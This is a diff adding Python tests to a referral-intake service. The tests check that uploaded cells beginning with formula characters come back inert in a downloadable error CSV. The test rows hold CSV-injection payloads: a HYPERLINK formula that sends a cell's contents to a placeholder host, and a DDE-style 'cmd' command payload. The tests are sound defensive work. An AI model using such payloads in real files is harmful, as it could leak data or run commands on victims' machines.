@@ -552,3 +552,45 @@ async def test_rules_changed_while_an_import_runs_reach_every_row(
     }
     # First assessed as eligible at import, then once more when found changed: never twice.
     assert len(assessed) == 8
+
+
+async def test_error_file_writes_uploaded_formulas_back_inert(
+    start_service: StartService, auth: Auth
+) -> None:
+    """The error file repeats what was uploaded: a cell that a spreadsheet would run as a formula
+    comes back with a leading apostrophe; a phone number or a plain name comes back as it was."""
+    intake = await start_service("intake")
+    officer = auth("case_officer")
+    formula = '=HYPERLINK("https://x.invalid/?"&B2,"open")'
+    rows = [
+        referral("12-45", first_name=formula, last_name="@SUM(A1)", address="-2+3"),
+        referral("12-46", first_name="\t=1", patronymic="+cmd|' /C calc'!A0"),
+    ]
+    response = await upload(intake.client, csv_file(rows), officer)
+    job = await finished(intake.client, response.headers["location"], officer)
+    assert job["rejected"] == 2
+    download = await intake.client.get(
+        f"{response.headers['location']}/errors.csv", headers=officer
+    )
+    first, second = list(csv.DictReader(io.StringIO(download.text.lstrip("\ufeff"))))
+    assert first["first_name"] == "'" + formula
+    assert first["last_name"] == "'@SUM(A1)"
+    assert first["address"] == "'-2+3"
+    assert first["fin"] == "12-45"
+    assert first["phone"] == "+994501234567"  # only a number: kept
+    assert second["first_name"] == "'=1"  # the reader strips the tab
+    assert second["patronymic"] == "'+cmd|' /C calc'!A0"
+    assert not any(
+        cell.startswith(("=", "+", "-", "@", "\t", "\r"))
+        for line in (first, second)
+        for name, cell in line.items()
+        if name != "phone"
+    )
+
+
+def test_the_import_template_holds_no_formula() -> None:
+    """The template is written as it is: none of its cells would be read as a formula."""
+    from intake.imports.parser import TEMPLATE_ROWS
+    from shared.spreadsheets import safe_cell
+
+    assert all(safe_cell(cell) == cell for row in TEMPLATE_ROWS for cell in row)
